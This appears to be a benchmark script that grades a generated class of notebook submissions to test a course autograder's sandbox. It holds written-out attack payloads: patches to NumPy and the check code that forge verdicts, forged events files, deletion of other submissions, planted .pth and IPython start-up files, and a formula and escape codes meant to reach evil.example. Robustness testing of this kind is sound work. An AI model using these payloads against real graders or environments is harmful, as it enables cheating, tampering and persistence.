"""Grade a generated class, check every verdict and side effect, time the run.

The instructor's grader (``python -m instructor.grade``) is judged on a realistic
class (the honest section): 30 submissions made from the real student notebooks, some
right (written differently from the solutions), some wrong in the usual ways, some
broken (a syntax error, a deleted or reordered cell, a tampered check, an unreadable
file, another course's notebook) and some hostile but bounded (an endless loop, a cell
that ignores interrupts, a memory hog, a kernel that kills itself, megabytes of
output). Each submission comes with the status expected for every exercise.

The hostile section adds a submission for each attack of issue 12 (built from the
student notebooks too): forging verdicts (patched NumPy or checks, rewritten check
cells, forged events files and probe outputs), damaging others (other submissions,
the course notebooks, the installed package, a ``.pth`` file, an IPython start-up
file), processes (daemons, a child over the memory cap, signals to the grader) and
poisoned reports (formulas and escape codes in a file name and an exception, a link
to a system file, files of 60 and 40 MB). Each comes with its expected verdicts AND
the side effects that must not happen; after grading the run checks checksums of the
course notebooks, the other submissions, the installed package, the virtual
environment and a HOME folder, looks for processes left behind, and reads the report
(well-formed, every cell neutral) and the grader's console output (no control
characters).

    python benchmarks/grade_class.py [--out DIR] [--workers 2]
        [--section honest|hostile|all] [--no-sandbox]

writes ``DIR/submissions/``, ``DIR/report.csv`` (the grader's), ``DIR/grader.log``
(its console) and ``DIR/grading.md`` (expected vs got, side effects, the wall time);
exit code 1 when any verdict, flag or side effect differs from the expected one. The
grader runs as an instructor types it, with its default limits, except ``--course``
(a copy of the solution notebooks, which the attacks may try to edit) and ``HOME``
(a fresh folder, checked afterwards). Attacks only ever aim at the run's own folder,
this grading run's processes and files named after the run's marker, so that a run
without the sandbox (``--no-sandbox``, to see what the sandbox prevents) damages
nothing else on the machine; what such a run planted is removed at its end.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import json
import os
import platform
import re
import shutil
import stat
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

import nbformat
import psutil

from course_utils.contract import PROBE_MIME

ROOT = Path(__file__).resolve().parent.parent
STUDENT = ROOT / "notebooks" / "student"
CARTPOLE, PENDULUM = "01_actor_critic_cartpole", "02_ddpg_pendulum"
TD3 = "03_td3_pendulum"
PREFIX = {CARTPOLE: "c01", PENDULUM: "p02", TD3: "t03"}  # of generated names
P, F, E, NA, M = "passed", "failed", "error", "not attempted", "missing"

# ---------------------------------------------------------------------------------
# Right answers, written differently from the solutions (one code block per stub).
# ---------------------------------------------------------------------------------
RIGHT = {
    CARTPOLE: {
        "1": ["""\
            observation = keras.Input((num_inputs,))
            shared = keras.layers.Dense(units=num_hidden, activation="relu")(
                observation
            )
            heads = [
                keras.layers.Dense(num_actions, activation=keras.activations.softmax)(
                    shared
                ),
                keras.layers.Dense(1, activation=None)(shared),
            ]
            return keras.Model(observation, heads)"""],
        "2": ["""\
            rewards = np.asarray(rewards, dtype=float)
            out = np.empty_like(rewards)
            g = bootstrap
            for i in range(len(rewards) - 1, -1, -1):
                g = g * gamma + rewards[i]
                out[i] = g
            return out"""],
        "3": ["""\
            x = np.array(values, dtype=float)
            return (x - np.mean(x)) / max(np.std(x), 1e-8)"""],
        "4": ["""\
            one_hot = tf.one_hot(actions, tf.shape(action_probs)[1])
            log_taken = tf.math.log(tf.reduce_sum(action_probs * one_hot, axis=1))
            advantage = returns - tf.stop_gradient(values)
            critic = keras.losses.Huber()(returns, values)
            return -tf.reduce_mean(log_taken * advantage), critic"""],
        "5": ["""\
            def build_tanh(num_inputs, num_actions):
                state = keras.Input((num_inputs,))
                features = keras.layers.Dense(64, activation="tanh")(state)
                probs = keras.layers.Dense(num_actions, activation="softmax")(features)
                return keras.Model(state, [probs, keras.layers.Dense(1)(features)])

            MY_NETWORKS = {
                "256 relu": lambda n_in, n_out: build_agent(n_in, n_out, 256),
                "64 tanh": build_tanh,
            }""",
              # The conclusion read off the data (which network wins varies): a pick
              # only when its slowest seed beats every other network's median.
              """\
            def clearly_best(name):
                slowest = max(run["solved_at"] or np.inf for run in experiment[name])
                return all(slowest < median_episodes(experiment[other])
                           for other in NETWORKS if other != name)

            clear = [name for name in MY_NETWORKS if clearly_best(name)]
            MY_PICK = clear[0] if clear else None"""],
    },
    PENDULUM: {
        "1": ["return (1.0 - theta * dt) * x + theta * dt * mu + sigma * dt**0.5 "
              "* normal_sample"],
        "2": [
            """\
            i = self.count % self.capacity
            columns = (self.states, self.actions, self.rewards, self.next_states,
                       self.terminated, self.truncated)
            values = (state, action, reward, next_state, terminated, truncated)
            for column, value in zip(columns, values):
                column[i] = value
            self.count = self.count + 1""",
            """\
            picked = rng.integers(len(self), size=batch_size)
            columns = (self.states, self.actions, self.rewards, self.next_states,
                       self.terminated, self.truncated)
            return tuple(column[picked] for column in columns)""",
        ],
        "3": ["""\
            not_done = 1.0 - terminated
            return rewards + not_done * gamma * next_q"""],
        "4": ["""\
            next_actions = target_actor(next_states)
            next_q = target_critic([next_states, next_actions])
            y = tf.stop_gradient(
                critic_target(rewards, next_q, terminated, truncated, gamma)
            )
            critic_loss = keras.losses.MeanSquaredError()(y, critic([states, actions]))
            actor_loss = -tf.reduce_mean(critic([states, actor(states)]))
            return actor_loss, critic_loss"""],
        "5": ["return [(1 - tau) * t + tau * o for t, o in zip(target_weights, "
              "online_weights)]"],
    },
    TD3: {
        # Keras's minimum instead of tf.minimum, the discount applied first.
        "1": ["""\
            smaller = keras.ops.minimum(next_q1, next_q2)
            return rewards + (1.0 - terminated) * (gamma * smaller)"""],
        # Clips built from a minimum and a maximum, then Keras's clip.
        "2": ["""\
            noise = tf.minimum(tf.maximum(noise_std * normal_sample, -noise_clip),
                               noise_clip)
            bound = action_bound
            return keras.ops.clip(target_action + noise, -bound, bound)"""],
        # "A multiple of the delay" by floor division: a comparison of tensors
        # inside tf.function, which AutoGraph turns into a condition of the graph.
        "3": ["""\
            update_critics()
            if update_number // policy_delay * policy_delay == update_number:
                update_actor()
                update_targets()"""],
    },
}

# Typical wrong answers, each caught by its check with a message naming the mistake.
WRONG = {
    "critic_relu": (CARTPOLE, "1", ["""\
        inputs = keras.Input(shape=(num_inputs,))
        hidden = keras.layers.Dense(num_hidden, activation="relu")(inputs)
        probs = keras.layers.Dense(num_actions, activation="softmax")(hidden)
        value = keras.layers.Dense(1, activation="relu")(hidden)
        return keras.Model(inputs, [probs, value])"""], "squashed"),
    "int_shape": (CARTPOLE, "1", ["""\
        inputs = keras.Input(shape=num_inputs)
        hidden = keras.layers.Dense(num_hidden, activation="relu")(inputs)
        probs = keras.layers.Dense(num_actions, activation="softmax")(hidden)
        return keras.Model(inputs, [probs, keras.layers.Dense(1)(hidden)])"""],
        "raised"),
    "returns_forward": (CARTPOLE, "2", ["""\
        out, running = [], 0.0
        for r in rewards:
            running = r + gamma * running
            out.append(running)
        return np.array(out)"""], "looking back"),
    "centred_only": (CARTPOLE, "3", ["return np.asarray(values) - np.mean(values)"],
                     "centred"),
    "loss_sign": (CARTPOLE, "4", ["""\
        taken = tf.gather(action_probs, actions, batch_dims=1)
        advantage = tf.stop_gradient(values - returns)
        return (-tf.reduce_mean(tf.math.log(taken) * advantage),
                keras.losses.Huber()(returns, values))"""], "sign is flipped"),
    "loss_attached": (CARTPOLE, "4", ["""\
        taken = tf.gather(action_probs, actions, batch_dims=1)
        advantage = returns - values
        return (-tf.reduce_mean(tf.math.log(taken) * advantage),
                keras.losses.Huber()(returns, values))"""], "stop_gradient"),
    # Two Dense layers without an activation: one linear map, whatever its runs.
    "linear_network": (CARTPOLE, "5", ["""\
        def build_linear(num_inputs, num_actions):
            state = keras.Input((num_inputs,))
            hidden = keras.layers.Dense(32)(keras.layers.Dense(32)(state))
            probs = keras.layers.Dense(num_actions, activation="softmax")(hidden)
            return keras.Model(state, [probs, keras.layers.Dense(1)(hidden)])

        MY_NETWORKS = {"linear": build_linear,
                       "128": lambda n_in, n_out: build_agent(n_in, n_out, 128)}""",
        'MY_PICK = "linear"'], "no non-linearity"),
    "ou_sign": (PENDULUM, "1", ["return x + theta * (x - mu) * dt + sigma * "
                                "np.sqrt(dt) * normal_sample"], "wrong sign"),
    "buffer_never_wraps": (PENDULUM, "2", [
        """\
        row = min(self.count, self.capacity - 1)
        self.states[row], self.actions[row] = state, action
        self.rewards[row], self.next_states[row] = reward, next_state
        self.terminated[row], self.truncated[row] = terminated, truncated
        self.count += 1""",
        RIGHT[PENDULUM]["2"][1],
    ], "overwritten"),
    # The right ddpg_losses calls this critic_target: Exercise 4 fails with it.
    "target_truncated": (PENDULUM, "3", [
        "return rewards + gamma * (1.0 - terminated - truncated) * next_q"
    ], "truncated", {"4": "failed"}),
    "tau_backwards": (PENDULUM, "5", [
        "return [tau * t + (1 - tau) * o for t, o in zip(target_weights, "
        "online_weights)]"
    ], "wrong way round"),
    # Chapter 03's three, all in one submission (see wrong_each).
    "double_q_max": (TD3, "1", [
        "return rewards + gamma * (1.0 - terminated) * tf.maximum(next_q1, next_q2)"
    ], "LARGER"),
    "noise_not_clipped": (TD3, "2", [
        "return tf.clip_by_value(target_action + noise_std * normal_sample, "
        "-action_bound, action_bound)"
    ], "noise is not clipped"),
    "targets_first": (TD3, "3", ["""\
        update_critics()
        if update_number % policy_delay == 0:
            update_targets()
            update_actor()"""], "targets are updated before the actor"),
}
# The id of the typical mistake the check names (the report's ``mistake`` column),
# for the wrong answers whose id the benchmark compares.
MISTAKES = {
    "double_q_max": "double-q/max",
    "noise_not_clipped": "smoothing/noise-not-clipped",
    "targets_first": "delay/targets-before-actor",
}


@dataclass
class Submission:
    """One generated submission and the status expected for each exercise.

    A hostile submission also names its category (one of ``CATEGORIES``), why its
    statuses are what they are, and the side-effect checks that prove its attack
    failed (``EFFECTS``).
    """

    name: str
    notebook: str | None  # which student notebook it starts from (None: no notebook)
    # exercise number -> status ("" for a whole-file row); a tuple when either
    # status is right (``why`` says when)
    expected: dict[str, str | tuple[str, ...]]
    answers: dict[str, list[str]] = field(default_factory=dict)
    edit: object = None  # a function changing the notebook in place
    raw: str | None = None  # written as is instead of a notebook
    fragments: dict[str, str] = field(default_factory=dict)  # expected in messages
    mistakes: dict[str, str] = field(default_factory=dict)  # expected mistake ids
    flags: str = ""  # the flags column expected (";"-joined)
    category: str = ""  # hostile category ("" in the honest class)
    why: str = ""  # why these statuses
    effects: tuple[str, ...] = ()  # side-effect checks proving the attack failed
    writer: Callable[[Path], None] | None = None  # writes a special file instead
    token: str | None = None  # a part of its report name (names get neutralised)
    absent: tuple[str, ...] = ()  # texts its report rows must not contain
    suffix: str = ".ipynb"  # its file's suffix (``.py``, ``.zip``, ``.html``...)
    member: str | None = None  # in a ``.zip``: the file inside it this row grades
    shown: str | None = None  # its name in the report, when not the file's own
    writes: bool = True  # False: another submission writes its file (a zip's)

    @property
    def file_name(self) -> str:
        """Its file's path inside the submissions folder."""
        return self.name + self.suffix

    @property
    def report_name(self) -> str:
        """Its name in the report's ``submission`` column."""
        if self.shown is not None:
            return self.shown
        return self.file_name + (f"/{self.member}" if self.member else "")


def every(status: str, notebook: str = CARTPOLE) -> dict[str, str]:
    """The same expected status for every exercise of a notebook (five in
    notebooks 01 and 02, three in 03)."""
    return {number: status for number in RIGHT[notebook]}


def all_right(notebook: str, **changed: list[str]) -> dict[str, list[str]]:
    """The right answers of a notebook, with some exercises replaced."""
    answers = dict(RIGHT[notebook])
    answers.update(changed)
    return answers


def wrong(key: str, *, skip_last: bool) -> Submission:
    """A submission with one typical mistake; the rest right.

    With ``skip_last``, the last exercise is left as its stub (a student who gave up
    on it), so that its status does not depend on how training goes with the mistake.
    """
    notebook, number, code, fragment, *knock_on = WRONG[key]
    answers = all_right(notebook, **{number: code})
    expected = {**every(P), number: F}
    expected.update(*knock_on)
    if skip_last and number != "5":
        del answers["5"]
        expected["5"] = NA
    return Submission(f"{PREFIX[notebook]}_wrong_{key}", notebook, expected, answers,
                      fragments={number: fragment}, mistakes=mistake_ids(key))


def mistake_ids(*keys: str) -> dict[str, str]:
    """Exercise number -> the mistake id expected in the report, for the wrong
    answers ``keys`` whose id is known (``MISTAKES``)."""
    return {WRONG[key][1]: MISTAKES[key] for key in keys if key in MISTAKES}


def wrong_each(notebook: str, keys: tuple[str, ...]) -> Submission:
    """A submission with a different typical mistake in each exercise ``keys``
    name (a chapter whose every submission trains for minutes gets one such
    submission instead of one per mistake)."""
    answers = dict(RIGHT[notebook])
    expected = every(P, notebook)
    fragments = {}
    for key in keys:
        where, number, code, fragment, *knock_on = WRONG[key]
        assert where == notebook and not knock_on, key
        answers[number], expected[number], fragments[number] = code, F, fragment
    return Submission(f"{PREFIX[notebook]}_wrong_each", notebook, expected, answers,
                      fragments=fragments, mistakes=mistake_ids(*keys))


# Edits of the notebook's cells, for broken and hostile submissions.
def index_of(cells, text: str) -> int:
    return next(i for i, cell in enumerate(cells) if text in cell.source)


def code_cell_of(cells, number: str) -> int:
    """The first code cell after the exercise's heading."""
    heading = index_of(cells, f"### Exercise {number}:")
    return next(i for i in range(heading, len(cells)) if cells[i].cell_type == "code")


def check_cell_of(cells, call: str) -> int:
    return next(i for i, c in enumerate(cells) if c.source.startswith(call))


def prepend_to_exercise(number: str, code: str):
    def edit(notebook):
        cells = notebook.cells
        cell = cells[code_cell_of(cells, number)]
        cell.source = textwrap.dedent(code) + "\n" + cell.source

    return edit


def append_to_exercise(number: str, code: str):
    def edit(notebook):
        cells = notebook.cells
        cell = cells[code_cell_of(cells, number)]
        cell.source = cell.source + "\n" + textwrap.dedent(code)

    return edit


def delete_exercise_cell(number: str):
    def edit(notebook):
        del notebook.cells[code_cell_of(notebook.cells, number)]

    return edit


def tamper_check(call: str, replacement: str):
    def edit(notebook):
        notebook.cells[check_cell_of(notebook.cells, call)].source = replacement

    return edit


def swap_sections(first: str, second: str, end: str):
    """Move the cells from heading ``second`` up to ``end`` before heading ``first``."""

    def edit(notebook):
        cells = notebook.cells
        a, b, c = (index_of(cells, text) for text in (first, second, end))
        cells[a:c] = cells[b:c] + cells[a:b]

    return edit


def colab_metadata(notebook) -> None:
    notebook.metadata["colab"] = {"provenance": [], "name": "copy.ipynb"}
    for cell in notebook.cells:
        cell.metadata["id"] = f"cell{id(cell) % 10_000}"


def tampered(sub: Submission) -> Submission:
    """The submission with its last check fed the right answer instead of the
    student's: the grader runs the course's own check cell, which fails."""
    sub.name += "_check_tampered"
    sub.edit = tamper_check("checks.check_soft_update", TAMPERED_CHECK)
    return sub


TAMPERED_CHECK = (
    "checks.check_soft_update(\n"
    "    lambda t, o, tau: [tau * b + (1 - tau) * a for a, b in zip(t, o)]\n"
    ")"
)
FOREIGN = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": "# Pandas, week 3"},
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
         "source": "import pandas as pd\npd.DataFrame({'a': [1, 2]})"},
    ],
    "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
}
# A check cell replaced by a fake success line: the grader finds no check call, so
# it reports the check as missing (it never takes a printed line for a pass).
FAKE_CHECK = "print('✔ actor-critic loss: values and gradients right on 3 cases')"


def class_of_30() -> list[Submission]:
    """The 30 submissions: 15 of notebook 01, 10 of notebook 02, 3 of notebook 03
    (each trains DDPG and TD3 for minutes), 2 unusable files."""
    hog = """\
        import numpy as np
        hoard = np.ones(400_000_000)  # 3.2 GB, over the grader's 2 GB cap"""
    hang = """\
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignores the interrupt
        while True:
            pass"""
    return [
        Submission("c01_right_a", CARTPOLE, every(P), all_right(CARTPOLE),
                   edit=colab_metadata),
        Submission("alice/Copy of 01_actor_critic_cartpole (2)", CARTPOLE, every(P),
                   all_right(CARTPOLE)),
        Submission("c01_untouched", CARTPOLE, every(NA)),
        wrong("critic_relu", skip_last=True),
        wrong("int_shape", skip_last=True),
        wrong("returns_forward", skip_last=True),
        wrong("centred_only", skip_last=True),
        wrong("loss_sign", skip_last=True),
        wrong("loss_attached", skip_last=True),
        wrong("linear_network", skip_last=True),
        # Broken: a syntax error; a deleted exercise cell (what needs it then fails).
        Submission("c01_syntax_error", CARTPOLE, {**every(P), "2": E, "5": E},
                   all_right(CARTPOLE), edit=append_to_exercise("2", "oops = ("),
                   fragments={"2": "SyntaxError"}),
        Submission("c01_deleted_cell", CARTPOLE, {**every(P), "3": M, "5": E},
                   all_right(CARTPOLE), edit=delete_exercise_cell("3"),
                   fragments={"3": "code cell"}),
        # Hostile but bounded.
        Submission("c01_faked_check", CARTPOLE, {**every(P), "4": M, "5": NA},
                   {k: v for k, v in all_right(CARTPOLE, **{"4": WRONG["loss_sign"][2]})
                    .items() if k != "5"},
                   edit=tamper_check("checks.check_actor_critic_loss", FAKE_CHECK),
                   fragments={"4": "calls check_actor_critic_loss"}),
        Submission("c01_flood", CARTPOLE, every(P), all_right(CARTPOLE),
                   edit=append_to_exercise("2", "print('spam ' * 4_000_000)")),
        Submission("c01_memory_hog", CARTPOLE, {**every(P), "5": E},
                   all_right(CARTPOLE), edit=prepend_to_exercise("5", hog),
                   fragments={"5": "memory cap"}),
        Submission("p02_right_a", PENDULUM, every(P), all_right(PENDULUM),
                   edit=colab_metadata),
        Submission("p02_untouched", PENDULUM, every(NA)),
        wrong("ou_sign", skip_last=False),
        wrong("buffer_never_wraps", skip_last=False),
        wrong("target_truncated", skip_last=False),
        tampered(wrong("tau_backwards", skip_last=False)),
        Submission("p02_reordered", PENDULUM, every(P), all_right(PENDULUM),
                   edit=swap_sections("### Exercise 4:", "## Soft target updates",
                                      "## Training")),
        Submission("p02_endless_loop", PENDULUM, {**every(P), "5": E},
                   all_right(PENDULUM),
                   edit=prepend_to_exercise("5", "while True:\n    pass"),
                   fragments={"5": "time limit"}),
        Submission("p02_ignores_interrupt", PENDULUM, {"1": P, "2": P, "3": E, "4": E,
                                                       "5": E},
                   all_right(PENDULUM), edit=prepend_to_exercise("3", hang),
                   fragments={"4": "ignored the interrupt"}),
        Submission("p02_kernel_dies", PENDULUM, {**every(P), "4": E, "5": E},
                   all_right(PENDULUM),
                   edit=prepend_to_exercise("4", "import os\nos._exit(3)"),
                   fragments={"5": "kernel died"}),
        Submission("carol/Copy of 03_td3_pendulum", TD3, every(P, TD3), all_right(TD3),
                   edit=colab_metadata),
        wrong_each(TD3, ("double_q_max", "noise_not_clipped", "targets_first")),
        Submission("t03_untouched", TD3, every(NA, TD3)),
        Submission("unreadable", None, {"": "invalid"},
                   raw='{"cells": [{"cell_type": "code", "source": '),
        Submission("pandas_homework", None, {"": "unrecognised"},
                   raw=json.dumps(FOREIGN)),
    ]


# ---------------------------------------------------------------------------------
# The hostile section: one submission per attack of issue 12.
# ---------------------------------------------------------------------------------
HOSTILE = "00_hostile"  # sorts first: its attacks run before most others are graded
RUN_VARIABLE = "GRADE_CLASS_RUN"  # set for the grader: marks this run's processes
# The categories of the list, each covered by at least one submission.
CATEGORIES = {
    "patch-numpy": "rebinding or patching NumPy's comparisons (or what a check's "
    "reference computes with)",
    "rebind-checks": "rebinding the course's check functions",
    "patch-core": "monkeypatching course_utils.checks.core",
    "input-transformer": "an IPython input transformer rewriting the check cell",
    "events-file": "writing the grader's progress/events files",
    "forged-probe": "a forged probe output (PROBE_MIME display)",
    "overwrite-others": "overwriting and deleting other submissions",
    "edit-course": "editing the --course notebooks and the installed course_utils",
    "pth-file": "a .pth file in the virtual environment's site-packages",
    "ipython-startup": "an IPython start-up file (and a kernel spec) in HOME",
    "daemon": "processes that outlive grading (setsid, double fork, nohup sleeper)",
    "memory-escape": "a child process escaping the memory cap",
    "signal-grader": "signalling the grader and the other kernels",
    "file-name": "a formula and escape codes in the file name",
    "exception-name": "a formula and escape codes in an exception's name and message",
    "system-file-link": "a link to a system file as a submission",
    "large-junk": "60 MB of random bytes",
    "large-json": "40 MB of invalid JSON",
    "replayed-payload": "answers replayed from the published cases (a lookup table "
    "of the reference's outputs on the notebook's fixed cases)",
    "reference-call": "a reference function called by a name built at run time",
    "shadowed-names": "__import__, display and checks shadowed to hand over a payload "
    "recorded from the published solution",
    "long-names": "a 1 MB identifier and a 1 MB markdown heading",
    "many-cells": "100,000 tiny markdown cells",
    "widget-flood": "a comm sending 300 messages of 1 MB to the grader's worker",
    "deep-trees": "a 10,000-deep folder tree and a 100 MB file in every writable "
    "folder (the socket folder found from the connection file)",
    "setuid-files": "a setuid-root file in every writable folder",
    "look-alike-names": "two names that differ only by a zero-width space",
    "non-notebook": "an HTML and a PDF export, a plain .py, a jupytext .py, a .zip of "
    "two notebooks, a .zip with a ../ member",
}
# A submission's time when its attack aims at the grader's own work (reading,
# recognising, preparing): a notebook 01 with Exercise 5 left as its stub takes
# 12-20 s on a busy 2-core machine.
TIME_BOUND_S = 90
# The side-effect checks (see check_side_effects), by what a failure would mean.
EFFECTS = {
    "submissions": "the other submissions are unchanged",
    "course": "the --course notebooks are unchanged",
    "package": "the installed course_utils is unchanged",
    "venv": "the virtual environment's site-packages are unchanged",
    "home": "the grader's HOME and your IPython/Jupyter folders are unchanged",
    "planted": "no file named after the run's marker exists anywhere checked",
    "processes": "no process of the run is left",
    "memory": "no process of the run went over the memory cap",
    "grader": "the grader finished (exit 0, every submission graded)",
    "report": "report.csv is well-formed, neutral and unchanged after the exit",
    "console": "the grader's console output has no control or invisible character",
    "reading": "large files do not push the grader's memory to a multiple of theirs",
    "setuid": "no setuid file owned by uid 0 created during the run under the host's "
    "temporary folders (the run's TMPDIR, /tmp, /dev/shm, $XDG_RUNTIME_DIR)",
    "temp": "no course-grade-* or course-view-* folder left in the grader's "
    "temporary folder (the run's TMPDIR) after it exits",
    "time": f"the submission was graded within {TIME_BOUND_S} s (its console line)",
}
MEMORY_CAP_MB = 2048  # the grader's default --memory-mb
# The grader's worker (outside the sandbox, in the cap) keeps 8 MB of comm state.
WORKER_LIMIT_MB = 300
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
# As written in a notebook's source: Python escapes, not the characters themselves.
ESCAPES_SOURCE = r"\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\link\r\n"


@dataclass(frozen=True)
class Context:
    """Where this run's files are: the attacks' absolute guesses come from here.

    A student who knows the course's layout could guess these paths; the attacks use
    the true ones, the worst case.
    """

    out: Path
    marker: str

    @property
    def submissions(self) -> Path:
        return self.out / "submissions"

    @property
    def course(self) -> Path:
        return self.out / "course"

    @property
    def report(self) -> Path:
        return self.out / "report.csv"

    @property
    def home(self) -> Path:
        return self.out / "home"

    @property
    def scratch(self) -> Path:
        """The grader's temporary folder (its TMPDIR; short: Unix socket paths are
        limited)."""
        return Path(f"/tmp/gc-{self.marker[-8:]}")


def code(template: str, **values) -> str:
    """An attack's code: ``template`` dedented, each ``__NAME__`` replaced by the
    ``repr`` of ``values[name]`` (paths and markers as Python literals)."""
    text = textwrap.dedent(template).strip("\n")
    for name, value in values.items():
        text = text.replace(f"__{name.upper()}__", repr(value))
    return text


def final_cell(source: str):
    """An edit adding a code cell at the end (after every check has run)."""

    def edit(notebook):
        notebook.cells.append(nbformat.v4.new_code_cell(source))

    return edit


def both(*edits):
    """Several edits, in order."""

    def edit(notebook):
        for one in edits:
            one(notebook)

    return edit


def hostile(name: str, category: str, expected: dict, why: str, flags: str,
            effects: tuple[str, ...], notebook: str = CARTPOLE,
            **fields) -> Submission:
    """A hostile submission of notebook 01 (answers right, Exercise 5 left as its
    stub so that no training runs, unless ``answers`` says otherwise), or of
    ``notebook`` (then with the ``answers`` given)."""
    fields.setdefault("answers", {k: v for k, v in RIGHT[CARTPOLE].items() if k != "5"})
    return Submission(f"{HOSTILE}/{name}", notebook, expected, category=category,
                      why=why, flags=flags, effects=effects, **fields)


def c01_answers(**changed: list[str]) -> dict[str, list[str]]:
    """Right answers of notebook 01 but Exercise 5, with some replaced."""
    answers = {k: v for k, v in RIGHT[CARTPOLE].items() if k != "5"}
    answers.update(changed)
    return answers


BASE = {**every(P), "5": NA}  # right answers, Exercise 5 left as its stub

PATCH_NUMPY = """
    import numpy as np

    # Every comparison a check might make now says "equal" (not np.array_equal:
    # TensorFlow's gradients use it, and the student's own Exercise 4 would fail).
    np.allclose = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.testing.assert_array_equal = lambda *args, **kwargs: None
"""
# Chapter 03: the check's reference takes the smaller of the two estimates with
# np.fmin. Swapped in the kernel, the notebook's own check (reference and judge in
# the kernel) agrees with an answer that takes the larger one.
PATCH_REFERENCE = """
    import numpy as np

    # What the check's reference takes the smaller estimate with now takes the
    # larger, as the answer below does: the check cell prints its success line.
    np.fmin = np.fmax
"""
REBIND_CHECKS = """
    # The check cells call these names: make them print the success line.
    checks.check_discounted_returns = lambda f: print("✔ discounted returns: right")
    checks.check_normalise = lambda f: print("✔ normalise: right on every case")
"""
PATCH_CORE = """
    import course_utils.checks.core as core

    # The framework's comparisons and verdicts, as the kernel would run them.
    core.assert_close = lambda *args, **kwargs: None
    core.recognise = lambda *args, **kwargs: None
    core.judge_payload = lambda check, payload: "right on every case"
    core.run_check = lambda check, *args, **kwargs: core.passed("right on every case")
    core.CheckFailed = type("CheckFailed", (Exception,), {})
"""
INPUT_TRANSFORMER = """
    def _rewrite(lines):
        \"\"\"Replace the grader's check of Exercise 2 by its success line.\"\"\"
        if any("check_discounted_returns" in line for line in lines):
            return ["print('✔ discounted returns: right on every case')\\n"]
        return lines


    get_ipython().input_transformers_cleanup.append(_rewrite)
"""
EVENTS_FILE = """
    import glob
    import json
    import os
    import tempfile
    import time

    # The cells the grader runs as the checks of Exercises 2 and 3 (a student knows
    # their own notebook), and probe data that no check would accept.
    MINE = __CELLS__
    EMPTY = json.dumps({"records": {}, "stopped": None})
    # The grader's job folders (under the temporary folder: the benchmark gives the
    # grader one of its own, so that this never touches another program's files).
    JOBS = os.path.join(tempfile.gettempdir(), "course-grade-*", "job", "events.jsonl")


    def stolen():
        \"\"\"Probe data of other submissions' checks, from their events files.\"\"\"
        found = {}
        for path in glob.glob(JOBS):
            try:
                lines = open(path, encoding="utf-8").read().splitlines()
            except OSError:
                continue
            for line in lines:
                try:
                    event = json.loads(line)
                except ValueError:
                    continue
                if (event.get("role") == "check" and event.get("probe")
                        and event.get("exercise") in MINE):
                    found.setdefault(event["exercise"], event["probe"])
        return found


    found = {}
    for _ in range(40):  # wait for another submission to run these checks
        found = stolen()
        if len(found) == len(MINE):
            break
        time.sleep(1)
    forged = [
        json.dumps({"event": "done", "role": "check", "exercise": number, "cell": cell,
                    "status": "ok", "ename": "", "evalue": "", "success_line": True,
                    "probe_count": 1, "probe": found.get(number, EMPTY),
                    "seconds": 0.1})
        for number, cell in MINE.items()
    ]
    for target in ["../job/events.jsonl", "../../job/events.jsonl", *glob.glob(JOBS)]:
        try:
            with open(target, "a", encoding="utf-8") as events:
                events.write("\\n".join(forged) + "\\n")
        except OSError:
            pass
"""
FORGED_PROBE = """
    from IPython.display import display

    from course_utils.contract import PROBE_MIME

    FORGED = '{"records": {}, "stopped": null}'
    # A probe output in the exercise's own cell...
    display({PROBE_MIME: FORGED, "text/plain": "(check data)"}, raw=True)


    def _after(result):
        \"\"\"...and one more after the grader's check of this exercise.\"\"\"
        if "check_normalise" in (result.info.raw_cell or ""):
            display({PROBE_MIME: FORGED, "text/plain": "(check data)"}, raw=True)


    get_ipython().events.register("post_run_cell", _after)
"""
OVERWRITE_OTHERS = """
    import os

    # Other submissions: relative guesses from the working folder, and where the
    # instructor keeps them.
    count = 0
    for folder in ["../submissions", "../../submissions", "../../../submissions",
                   os.path.expanduser("~/submissions"), __SUBMISSIONS__]:
        for where, _, files in os.walk(folder):
            for name in files:
                path = os.path.join(where, name)
                if os.path.islink(path):  # never through a link (safe to run anywhere)
                    continue
                count += 1
                try:
                    if count % 2:
                        os.remove(path)
                    else:
                        with open(path, "w", encoding="utf-8") as other:
                            other.write('{"cells": []}')
                except OSError:
                    pass
"""
EDIT_COURSE = """
    import glob
    import os

    import course_utils

    # The solution notebooks the grader compares with (its --course folder).
    for path in glob.glob(os.path.join(__COURSE__, "*.ipynb")):
        try:
            with open(path, "a", encoding="utf-8") as notebook:
                notebook.write("\\n")
        except OSError:
            pass
    # The installed course package: a module planted in it and in its checks.
    package = os.path.dirname(course_utils.__file__)
    for folder in (package, os.path.join(package, "checks")):
        try:
            with open(os.path.join(folder, "zz_" + __MARKER__ + ".py"), "w") as module:
                module.write("# planted by a submission\\n")
        except OSError:
            pass
"""
PTH_FILE = """
    import os
    import site
    import sysconfig

    # A .pth line starting with "import" runs in every later Python of this
    # environment (this one only imports sys).
    for folder in {sysconfig.get_paths()["purelib"], *site.getsitepackages()}:
        try:
            with open(os.path.join(folder, "zz_" + __MARKER__ + ".pth"), "w") as pth:
                pth.write("import sys  # planted by a submission\\n")
        except OSError:
            pass
"""
IPYTHON_STARTUP = """
    import json
    import os
    import pwd
    import sys

    # A start-up file runs in every later kernel; the kernel spec in HOME would
    # replace the course's for every later kernel started with this HOME.
    for home in {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}:
        folder = os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "00-" + __MARKER__ + ".py"), "w") as startup:
                startup.write("# planted by a submission\\n")
        except OSError:
            pass
    spec = os.path.expanduser("~/.local/share/jupyter/kernels/python3")
    try:
        os.makedirs(spec, exist_ok=True)
        with open(os.path.join(spec, "kernel.json"), "w") as kernel:
            json.dump({"argv": [sys.executable, "-m", "ipykernel_launcher", "-f",
                                "{connection_file}"], "display_name": "Python 3",
                       "language": "python", "env": {"PLANTED": __MARKER__}}, kernel)
    except OSError:
        pass
"""
